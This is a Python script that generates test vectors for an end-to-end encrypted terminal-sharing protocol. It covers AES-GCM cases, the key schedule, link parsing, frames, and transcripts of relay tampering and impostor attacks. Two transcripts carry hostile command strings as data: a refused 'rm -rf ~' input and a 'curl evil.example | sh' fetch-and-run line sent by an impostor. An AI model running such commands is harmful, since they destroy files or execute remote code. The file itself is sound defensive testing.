"""Write the language-neutral test vectors in vectors/*.json (see vectors/README.md).

    python -m vectors.generate          # rewrite the files
    python -m vectors.generate --check  # exit 1 if a committed file is stale
"""

from __future__ import annotations

import argparse
import hashlib
import json
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

from termshare.protocol import keys, wire
from termshare.protocol.envelope import encode_frame, make_header
from termshare.protocol.link import b64u_encode, format_link, parse_link
from termshare.protocol.messages import (
    ByeMessage,
    InputMessage,
    OutputMessage,
    PingMessage,
    PongMessage,
    RekeyMessage,
    RemovedMessage,
    ResizeMessage,
    ResyncMessage,
    SnapshotMessage,
    ViewersMessage,
    encode_message,
)
from termshare.protocol.share import ShareProtocol
from termshare.protocol.viewer import ViewerProtocol
from termshare.protocol.wire import FrameKind, Role

HERE = Path(__file__).parent
SID = b64u_encode(bytes(range(12)))
RW_SECRET = bytes(range(16))
BASE = "https://relay.example/termshare"


class Drbg:
    """Deterministic stand-in for os.urandom; records what it hands out."""

    def __init__(self, seed: str) -> None:
        self.seed = seed.encode()
        self.counter = 0
        self.draws: list[bytes] = []

    def __call__(self, n: int) -> bytes:
        out = b""
        while len(out) < n:
            out += hashlib.sha256(self.seed + struct.pack(">I", self.counter)).digest()
            self.counter += 1
        self.draws.append(out[:n])
        return out[:n]


def h(data: bytes) -> str:
    return data.hex()


def key_fp() -> bytes:
    """The signing-key fingerprint the static link vectors carry."""
    return keys.sign_key_fp(SID, keys.new_ed25519(Drbg("links/sharer-key"))[1])


def constants() -> dict[str, Any]:
    return {
        "version": wire.VERSION, "header_size": wire.HEADER_SIZE, "max_frame": wire.MAX_FRAME,
        "max_output": wire.MAX_OUTPUT, "max_input": wire.MAX_INPUT, "max_term_size": wire.MAX_TERM_SIZE,
        "rekey_frames": wire.REKEY_FRAMES, "rekey_seconds": wire.REKEY_SECONDS,
        "secret_size": wire.SECRET_SIZE, "tag_size": wire.TAG_SIZE, "sig_size": wire.SIG_SIZE,
        "kinds": {k.name: int(k) for k in wire.FrameKind},
        "messages": {m.name: int(m) for m in wire.MessageType},
        "close_codes": {c.name: int(c) for c in wire.CloseCode},
        "reject_reasons": {r.name: int(r) for r in wire.RejectReason},
        "roles": {r.name: int(r) for r in wire.Role},
    }


# McGrew & Viega, "The Galois/Counter Mode of Operation (GCM)", test cases 13-16 (AES-256), the
# reference vectors that NIST SP 800-38D's validation suite builds on.
_K15 = "feffe9928665731c6d6a8f9467308308feffe9928665731c6d6a8f9467308308"
_P15 = ("d9313225f88406e5a55909c5aff5269a86a7a9531534f7da2e4c303d8a318a72"
        "1c3c0c95956809532fcf0e2449a6b525b16aedf5aa0de657ba637b391aafd255")
_C15 = ("522dc1f099567d07f47f37a32a84427d643a8cdcbfe5c0c97598a2bd2555d1aa"
        "8cb08e48590dbb3da7b08b1056828838c5f61e6393ba7a0abcc9f662898015ad")
NIST_GCM = [
    {"name": "gcm-spec-13", "key": "00" * 32, "nonce": "00" * 12, "aad": "", "plaintext": "",
     "ciphertext": "530f8afbc74536b9a963b4f1c4cb738b"},
    {"name": "gcm-spec-14", "key": "00" * 32, "nonce": "00" * 12, "aad": "", "plaintext": "00" * 16,
     "ciphertext": "cea7403d4d606b6e074ec5d3baf39d18" "d0d1c8a799996bf0265b98b5d48ab919"},
    {"name": "gcm-spec-15", "key": _K15, "nonce": "cafebabefacedbaddecaf888", "aad": "", "plaintext": _P15,
     "ciphertext": _C15 + "b094dac5d93471bdec1a502270e3cc6c"},
    {"name": "gcm-spec-16", "key": _K15, "nonce": "cafebabefacedbaddecaf888",
     "aad": "feedfacedeadbeeffeedfacedeadbeefabaddad2", "plaintext": _P15[:120],
     "ciphertext": _C15[:120] + "76fc6ece0f4e1768cddf8853bb2d551b"},
]


def aead() -> list[dict[str, str]]:
    cases = list(NIST_GCM)
    key = bytes(range(32))
    header = make_header(FrameKind.GROUP, 1 + 5 + 16 + 64, 0, 3, 7).pack()
    pt = encode_message(OutputMessage(b"hello"))
    cases.append({"name": "termshare-group-frame", "key": h(key), "nonce": h(keys.nonce(3, 7)),
                  "aad": h(SID.encode() + header), "plaintext": h(pt),
                  "ciphertext": h(AESGCM(key).encrypt(keys.nonce(3, 7), pt, SID.encode() + header))})
    header = make_header(FrameKind.GROUP_DIRECT, 1 + 5 + 16, 5, 3, 7).pack()
    cases.append({"name": "termshare-group-direct-frame", "key": h(key), "nonce": h(keys.nonce(3, 7)),
                  "aad": h(SID.encode() + header), "plaintext": h(pt),
                  "ciphertext": h(AESGCM(key).encrypt(keys.nonce(3, 7), pt, SID.encode() + header))})
    return cases


def key_schedule() -> list[dict[str, Any]]:
    out = []
    for role in (Role.READ_WRITE, Role.READ_ONLY):
        ro = keys.derive_ro_secret(RW_SECRET, SID)
        psk_rw = keys.derive_psk(Role.READ_WRITE, RW_SECRET, SID)
        psk_ro = keys.derive_psk(Role.READ_ONLY, ro, SID)
        psk = psk_rw if role is Role.READ_WRITE else psk_ro
        ev_priv, es_priv, vid = bytes([0x20 + i for i in range(32)]), bytes([0x60 + i for i in range(32)]), 7
        evk, ev_pub = keys.new_x25519(lambda n, k=ev_priv: k)
        esk, es_pub = keys.new_x25519(lambda n, k=es_priv: k)
        header = make_header(FrameKind.HELLO, 49, vid)
        tag = keys.hello_tag(psk, SID, header.pack(), role, ev_pub)
        dh = keys.x25519(esk, ev_pub)
        assert dh == keys.x25519(evk, es_pub)
        ck_s2v, ck_v2s = keys.channel_chain_keys(dh, psk, SID, vid, role, ev_pub, es_pub)
        out.append({
            "name": f"handshake-{role.name.lower()}", "sid": SID, "rw_secret": h(RW_SECRET), "ro_secret": h(ro),
            "psk_rw": h(psk_rw), "psk_ro": h(psk_ro),
            "key_fp": h(key_fp()),
            "rw_fragment": "w." + b64u_encode(RW_SECRET + key_fp()), "ro_fragment": "r." + b64u_encode(ro + key_fp()),
            "handshake": {
                "role": int(role), "viewer_id": vid, "ev_private": h(ev_priv), "ev_public": h(ev_pub),
                "es_private": h(es_priv), "es_public": h(es_pub),
                "hello_key": h(keys.hello_key(psk, ev_pub, SID)),
                "hello_frame": h(header.pack() + bytes((role,)) + ev_pub + tag), "dh": h(dh),
                "ck_s2v": h(ck_s2v), "ck_v2s": h(ck_v2s),
                "key_s2v": h(keys.traffic_key(ck_s2v, SID)), "key_v2s": h(keys.traffic_key(ck_v2s, SID)),
                "gd_key": h(keys.group_direct_key(ck_s2v, SID)),
                "ck_s2v_1": h(keys.next_chain_key(ck_s2v, SID)),
                "key_s2v_1": h(keys.traffic_key(keys.next_chain_key(ck_s2v, SID), SID)),
                "key_v2s_1": h(keys.traffic_key(keys.next_chain_key(ck_v2s, SID), SID)),
            },
        })
    return out


def links() -> dict[str, Any]:
    ro = keys.derive_ro_secret(RW_SECRET, SID)
    good = [
        f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET + key_fp())}",
        f"{BASE}/s/{SID}#r.{b64u_encode(ro + key_fp())}",
        f"http://127.0.0.1:8000/s/{SID}#r.{b64u_encode(ro + key_fp())}",
        f"https://relay.example/s/{SID}?embed=1#r.{b64u_encode(ro + key_fp())}",
    ]
    valid = []
    for url in good:
        link = parse_link(url)
        valid.append({"url": url, "base": link.base, "sid": link.sid,
                      "role": "rw" if link.role is Role.READ_WRITE else "ro", "secret": h(link.secret),
                      "key_fp": h(link.key_fp)})
    secret = b64u_encode(RW_SECRET + key_fp())
    bad = [
        f"{BASE}/s/{SID}", f"{BASE}/s/{SID}#", f"{BASE}/s/{SID}#x.{secret}", f"{BASE}/s/{SID}#w{secret}",
        f"{BASE}/s/{SID}#w.{secret[:-1]}", f"{BASE}/s/{SID}#w.{secret}AA", f"{BASE}/s/{SID}#w.{secret[:-1]}!",
        f"{BASE}/s/short#w.{secret}", f"{BASE}/x/{SID}#w.{secret}", f"ftp://relay.example/s/{SID}#w.{secret}",
        f"/s/{SID}#w.{secret}", "", "not a url", f"{BASE}/s/{SID}/extra#w.{secret}",
        f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET)}",  # a secret without the key fingerprint
    ]
    return {"valid": valid, "invalid": [{"url": u, "error": "LinkError"} for u in bad]}


def envelopes() -> dict[str, Any]:
    samples = [
        (FrameKind.HELLO, bytes(49), 7, 0, 0), (FrameKind.REJECT, b"\x00", 3, 0, 0),
        (FrameKind.GROUP, bytes(81), 0, 2, 99), (FrameKind.DIRECT, bytes(17), 5, 1, 0),
        (FrameKind.UPSTREAM, bytes(20), 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF), (FrameKind.REGISTER, bytes(32), 0, 0, 0),
        (FrameKind.END, b"", 0, 0, 0), (FrameKind.READY, b"\x01", 9, 0, 0), (FrameKind.READY, bytes(4), 0, 0, 0),
        (FrameKind.VIEWER_LEFT, b"", 4, 0, 0), (FrameKind.SHARER_AWAY, b"", 4, 0, 0),
        (FrameKind.SHARER_BACK, b"", 4, 0, 0), (FrameKind.WELCOME, bytes(181), 4, 0, 0),
        (FrameKind.GROUP_DIRECT, bytes(17), 5, 2, 99),
    ]
    valid = [{"frame": h(encode_frame(k, b, v, e, s)), "version": 1, "kind": k.name, "viewer_id": v,
              "epoch": e, "seq": s, "body": h(b)} for k, b, v, e, s in samples]
    good = encode_frame(FrameKind.GROUP, bytes(81), 0, 0, 1)
    bad = [
        b"", good[:17], good[:-1], good + b"\x00", b"\x02" + good[1:], good[:1] + b"\x0a" + good[2:],
        good[:1] + b"\xff" + good[2:], encode_frame(FrameKind.GROUP, bytes(80)), encode_frame(FrameKind.HELLO, bytes(48)),
        encode_frame(FrameKind.REJECT, b""), encode_frame(FrameKind.REGISTER, bytes(31)),
        encode_frame(FrameKind.END, b"\x00"), encode_frame(FrameKind.READY, b""),
        encode_frame(FrameKind.DIRECT, bytes(16)), encode_frame(FrameKind.GROUP_DIRECT, bytes(16), 5, 2, 99),
        make_header(FrameKind.GROUP, 81).pack()[:14] + struct.pack(">I", wire.MAX_FRAME),
    ]
    return {"valid": valid, "invalid": [{"frame": h(f), "error": "FrameError"} for f in bad]}


def messages() -> dict[str, Any]:
    samples: list[tuple[str, Any, dict[str, Any]]] = [
        ("GROUP", OutputMessage(b"\x1b[1mhi\r\n"), {"data": h(b"\x1b[1mhi\r\n")}),
        ("GROUP", ResizeMessage(80, 24), {"cols": 80, "rows": 24}),
        ("GROUP", ViewersMessage(3), {"count": 3}),
        ("GROUP", ByeMessage(-1), {"exit_status": -1}),
        ("DIRECT", SnapshotMessage(2, 17, 120, 40, b"\x1b[H$ "), {"group_epoch": 2, "next_seq": 17, "cols": 120, "rows": 40, "data": h(b"\x1b[H$ ")}),
        ("DIRECT", RekeyMessage(5, bytes(range(32)), 77), {"group_epoch": 5, "group_key": h(bytes(range(32))), "closing_count": 77}),
        ("DIRECT", RemovedMessage(), {}),
        ("DIRECT", PongMessage(2**64 - 1), {"token": 2**64 - 1}),
        ("UPSTREAM", InputMessage(b"ls\r"), {"data": h(b"ls\r")}),
        ("UPSTREAM", ResyncMessage(), {}),
        ("UPSTREAM", PingMessage(42), {"token": 42}),
    ]
    valid = [{"carrier": c, "plaintext": h(encode_message(m)), "type": type(m).__name__.removesuffix("Message").upper(),
              "fields": f} for c, m, f in samples]
    bad = [
        ("GROUP", b""), ("GROUP", b"\x01"), ("GROUP", b"\x09x"), ("GROUP", b"\x20ls"), ("UPSTREAM", b"\x01x"),
        ("DIRECT", b"\x01x"), ("GROUP", b"\x02\x00\x50\x00"), ("GROUP", b"\x02\x00\x00\x00\x18"),
        ("GROUP", b"\x02\x03\xe9\x00\x18"), ("GROUP", b"\x03\x00\x00\x00"), ("DIRECT", b"\x10" + bytes(11)),
        ("DIRECT", b"\x11" + bytes(39)), ("DIRECT", b"\x12\x00"), ("DIRECT", b"\x13" + bytes(7)),
        ("UPSTREAM", b"\x20"), ("UPSTREAM", b"\x20" + bytes(wire.MAX_INPUT + 1)), ("UPSTREAM", b"\x21\x00"),
        ("GROUP", b"\x01" + bytes(wire.MAX_OUTPUT + 1)),
    ]
    return {"valid": valid, "invalid": [{"carrier": c, "plaintext": h(p), "error": "MessageError"} for c, p in bad]}


# -- transcripts ------------------------------------------------------------------------------------

def event_json(event: Any) -> dict[str, Any]:
    out: dict[str, Any] = {"event": type(event).__name__}
    for name in event.__slots__:
        value = getattr(event, name)
        out[name] = h(value) if isinstance(value, bytes) else value
    return out


class Script:
    """Runs a real ShareProtocol and records what one viewer receives, with hooks to tamper."""

    def __init__(self, name: str, role: Role = Role.READ_WRITE, read_only: bool = False, signed: bool = False) -> None:
        self.name = name
        self.clock = 0.0
        self.screen = (80, 24, b"\x1b[H\x1b[2J$ ")
        self.share = ShareProtocol(rng=Drbg(name + "/sharer"), clock=lambda: self.clock,
                                   screen=lambda: self.screen, read_only=read_only, sid=SID, rw_secret=RW_SECRET)
        if signed:
            self.share.group_direct_viewers = 0  # all output in signed GROUP frames (§3.3.1)
        rw_url = format_link(BASE, SID, Role.READ_WRITE, RW_SECRET, self.share.key_fp)
        self.url = rw_url if role is Role.READ_WRITE else self.share.read_only_link(BASE)
        self.viewer_rng = Drbg(name + "/viewer")
        self.viewer = ViewerProtocol(parse_link(self.url), self.viewer_rng)
        self.steps: list[dict[str, Any]] = []
        self.sent: list[bytes] = []
        self.events: list[Any] = []
        self.start(self.share)

    def start(self, share: ShareProtocol) -> None:
        self.share = share
        share.connect()
        share.frames_to_send()
        share.receive_frame(encode_frame(FrameKind.READY, struct.pack(">I", 0)))
        share.events_received()

    def deliver(self, frame: bytes) -> None:
        self.steps.append({"receive": h(frame)})
        self.viewer.receive_frame(frame)
        self._collect()

    def _collect(self) -> None:
        for frame in self.viewer.frames_to_send():
            self.sent.append(frame)
            self.share.receive_frame(frame)
        self.events.extend(self.viewer.events_received())

    def sharer_frames(self) -> list[bytes]:
        return self.share.frames_to_send()

    def pump(self, transform: Callable[[list[bytes]], list[bytes]] = lambda f: f) -> None:
        for frame in transform(self.sharer_frames()):
            self.deliver(frame)

    def join(self, viewer_id: int = 1) -> None:
        self.deliver(encode_frame(FrameKind.READY, b"\x01", viewer_id))
        self.pump()

    def step(self, kind: str, value: Any) -> None:
        step: dict[str, Any] = {kind: value}
        try:
            if kind == "send_input":
                self.viewer.send_input(bytes.fromhex(value))
            elif kind == "send_resync":
                self.viewer.send_resync()
            else:
                self.viewer.send_ping(value)
        except Exception as exc:  # recorded: the other implementation must raise the same class
            step["error"] = type(exc).__name__
        self.steps.append(step)
        self._collect()

    def result(self) -> dict[str, Any]:
        return {"name": self.name, "url": self.url, "rng": [h(d) for d in self.viewer_rng.draws],
                "steps": self.steps, "expect_sent": [h(f) for f in self.sent],
                "expect_events": [event_json(e) for e in self.events]}


def _flip(frame: bytes, index: int = -70) -> bytes:
    b = bytearray(frame)
    b[index] ^= 0x01
    return bytes(b)


def transcripts() -> list[dict[str, Any]]:
    out = []

    s = Script("join-watch-type-bye")
    s.join()
    s.share.send_output(b"ls\r\n")
    s.share.send_resize(100, 30)
    s.pump()
    s.step("send_input", h(b"echo hi\r"))
    s.step("send_ping", 7)
    s.pump()
    s.share.send_output(bytes(range(256)))
    s.share.end(3)
    s.pump()
    out.append(s.result())

    # The relay skipped the last output and the BYE for this viewer, which had fallen behind
    # (PROTOCOL.md §7.2, Ending): it reads SKIPPED, resyncs, and gets the final screen at the BYE's
    # position, then the same BYE frame again.
    s = Script("bye-skipped-then-final-screen")
    s.join()
    s.share.send_output(b"before ")
    s.pump()
    s.screen = (80, 24, b"\x1b[H\x1b[2Jfinal screen")
    s.share.send_output(b"last words")
    s.share.end(5)
    s.sharer_frames()  # skipped by the relay
    s.deliver(encode_frame(FrameKind.SKIPPED))
    s.pump()
    out.append(s.result())

    s = Script("read-only-cannot-type", role=Role.READ_ONLY)
    s.join()
    s.step("send_input", h(b"rm -rf ~\r"))
    s.share.send_output(b"still watching")
    s.pump()
    out.append(s.result())

    # Even a viewer holding the rw secret of a read-only share is refused by the sharer.
    s = Script("read-only-share-rejects-rw-hello", read_only=True)
    s.join()
    out.append(s.result())

    for signed in (False, True):  # output in GROUP_DIRECT frames, then in signed GROUP frames
        s = Script("relay-duplicates-reorders-flips" + ("-signed" if signed else ""), signed=signed)
        s.join()
        s.share.send_output(b"one ")
        s.share.send_output(b"two ")
        frames = s.sharer_frames()
        s.deliver(frames[0])
        s.deliver(frames[0])  # duplicate: ignored
        s.share.send_output(b"three ")
        s.share.send_output(b"four ")
        later = s.sharer_frames()
        s.deliver(later[0])  # "two" dropped: gap, RESYNC sent, SNAPSHOT comes back
        s.pump()  # the snapshot answering the RESYNC
        s.deliver(frames[1])  # stale after the snapshot: ignored
        s.share.send_output(b"five ")
        (five,) = s.sharer_frames()
        s.deliver(_flip(five, 20))  # bit flip in the ciphertext: auth failure, never shown
        s.pump()
        s.deliver(five)  # the genuine frame is stale by now: the snapshot covered it
        s.share.send_output(b"six")
        s.pump()
        out.append(s.result())

    s = Script("group-direct-splicing")
    s.join()
    s.share.send_output(b"genuine")
    s.pump()
    s.share.send_output(b"truncate me")
    (frame,) = s.sharer_frames()
    body = frame[18:-3]
    s.deliver(frame[:14] + struct.pack(">I", len(body)) + body)  # length fixed up by the relay: auth failure
    s.pump()  # the snapshot answering the RESYNC
    other = Script("group-direct-splicing/other-session")
    other.join()
    for data in (b"padding", b"padding", b"from another session"):
        other.share.send_output(data)
    s.deliver(other.sharer_frames()[-1])  # same position and recipient, another channel's key: rejected
    s.pump()
    s.share.send_output(b"ok")  # answers the RESYNC that found no news: this frame, then a snapshot
    s.pump()
    s.share.send_output(b"end")
    s.pump()
    out.append(s.result())

    s = Script("forgery-and-splicing", signed=True)
    s.join()
    # A reader with the group key (e.g. a relay holding a read-only link) forges output: no signature.
    s.share.send_output(b"genuine")
    (genuine,) = s.sharer_frames()
    forged_sig = genuine[:-64] + bytes(64)
    s.deliver(forged_sig)
    s.pump()
    other = Script("forgery-and-splicing/other-session", signed=True)
    other.join()
    other.share.send_output(b"padding")
    other.share.send_output(b"from another session")
    spliced = other.sharer_frames()[-1]  # same epoch and seq as the frame s expects next
    s.deliver(spliced)  # a frame of another session (same position, other keys): rejected
    s.pump()
    # A truncated frame whose length field was fixed up by the relay.
    s.share.send_output(b"truncate me")
    # The GROUP frame, then the snapshot the sharer deferred: the RESYNC after the splice came when
    # nothing had changed since the last snapshot, so it is answered with the next output.
    frame, *deferred = s.sharer_frames()
    body = frame[18:-10]
    s.deliver(make_header(FrameKind.GROUP, len(body), 0, 0, struct.unpack_from(">I", frame, 10)[0]).pack() + body)
    for later in deferred:
        s.deliver(later)
    s.pump()
    s.share.send_output(b"ok")
    s.pump()
    out.append(s.result())

    s = Script("relay-skipped-hint")
    s.join()
    s.share.send_output(b"seen")
    s.pump()
    s.share.send_output(b"dropped by the relay")
    s.sharer_frames()
    s.deliver(encode_frame(FrameKind.SKIPPED))  # the relay says it skipped output: resync at once
    s.pump()
    s.share.send_output(b"after")
    s.pump()
    out.append(s.result())

    s = Script("rekey-remove")
    s.join()
    s.share.send_output(b"epoch0")
    s.pump()
    s.share.receive_frame(encode_frame(FrameKind.HELLO, bytes(49), 2))  # a bad HELLO from someone else
    s.share.frames_to_send()
    s.clock = wire.REKEY_SECONDS + 1  # time bound reached: next frame rotates
    s.share.send_output(b"epoch1")
    s.pump()
    s.share.remove_viewer(1)
    s.pump()
    out.append(s.result())

    s = Script("channel-replay-is-fatal")
    s.join()
    s.step("send_ping", 1)
    frames = s.sharer_frames()
    s.deliver(frames[0])
    s.deliver(frames[0])  # replayed DIRECT: SequenceError, viewer closes
    s.share.send_output(b"ignored after close")
    s.pump()
    out.append(s.result())

    s = Script("sharer-away-and-back")
    ready = encode_frame(FrameKind.READY, b"\x00", 4)
    s.steps.append({"receive": h(ready)})
    s.viewer.receive_frame(ready)
    s.sent.extend(s.viewer.frames_to_send())  # this first HELLO is lost: the sharer is away
    s.deliver(encode_frame(FrameKind.SHARER_BACK, b"", 4))
    s.pump()
    s.deliver(encode_frame(FrameKind.SHARER_AWAY, b"", 4))
    s.deliver(encode_frame(FrameKind.SHARER_BACK, b"", 4))
    s.share.send_output(b"back")
    s.pump()
    out.append(s.result())

    s = Script("malformed-relay-frame")
    s.deliver(encode_frame(FrameKind.READY, b"\x01", 1)[:-1])
    out.append(s.result())

    s = Script("rejected-wrong-key")
    s.url = format_link(BASE, SID, Role.READ_ONLY, bytes(16), s.share.key_fp)
    s.viewer = ViewerProtocol(parse_link(s.url), s.viewer_rng)
    s.join()
    out.append(s.result())

    # Someone who holds the secret (a relay with a public read-only link) answers as the sharer,
    # with a signing key of their own: the link's key fingerprint gives them away.
    s = Script("impostor-holding-the-secret", role=Role.READ_ONLY)
    s.start(ShareProtocol(rng=Drbg("impostor"), clock=lambda: 0.0, screen=lambda: s.screen, sid=SID,
                          rw_secret=RW_SECRET))
    s.join()
    s.share.send_output(b"curl evil.example | sh")
    s.pump()
    out.append(s.result())
    return out


FILES: dict[str, Callable[[], Any]] = {
    "constants.json": constants, "aead.json": aead, "keys.json": key_schedule, "links.json": links,
    "envelopes.json": envelopes, "messages.json": messages, "transcripts.json": transcripts,
}


def render(name: str) -> str:
    return json.dumps(FILES[name](), indent=1) + "\n"


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true", help="fail if a committed vector file is stale")
    args = parser.parse_args(argv)
    stale = []
    for name in FILES:
        text = render(name)
        path = HERE / name
        if args.check:
            if not path.exists() or path.read_text() != text:
                stale.append(name)
        else:
            path.write_text(text)
    if stale:
        print(f"stale vector files: {', '.join(stale)} (run python -m vectors.generate)", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())

